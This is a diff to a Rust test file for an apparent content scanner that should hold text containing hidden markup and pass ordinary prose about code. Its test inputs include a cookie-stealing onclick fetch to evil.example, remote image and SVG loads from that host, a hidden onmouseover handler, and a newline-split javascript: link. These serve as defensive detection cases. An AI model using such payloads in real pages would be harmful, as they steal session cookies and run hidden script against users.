@@ -84,6 +84,10 @@ fn pages_that_hide_words_are_held_and_snippets_are_not() {
         "<button onclick=\"fetch('//evil.example?c='+document.cookie)\">Go</button>",
         "<script>x()</script>",
         "Hello <script src=//evil.example/x.js>",
+        "Unsere Karte: <b class='x' title='ein < zwei' onmouseover=go()>Start</b>",
+        "看这张图：<img alt=\"猫\" src=\"//evil.example/p.png?c=1\">",
+        "<svg viewBox='0 0 1 1'><image href='//evil.example/p.svg'/></svg>",
+        "Unread <a title='x' href = 'java\nscript:go()'>mail</a>",
     ] {
         assert_eq!(scan(text, Door::Remember), Verdict::Held { rule: Rule::Markup }, "{text}");
     }
@@ -91,6 +95,7 @@ fn pages_that_hide_words_are_held_and_snippets_are_not() {
         "The button is <button onclick=\"save()\">Save</button>, the function is in app.js.",
         "<a href=\"#\" onclick=\"toggleMenu(); return false;\">Menu</a> is the last inline handler left.",
         "前端这样写：<img src=\"/logo.png\" onerror=\"this.src='/fallback.png'\">，图片挂了就换备用图。",
+        "When 3 < 4 and on = 5, the plot has src=//x.example/?a=1 below it.",
         "The tester got a <script> into the field for the surname; the template escapes it now.",
     ] {
         assert!(!scan(text, Door::Remember).is_held(), "{text}");
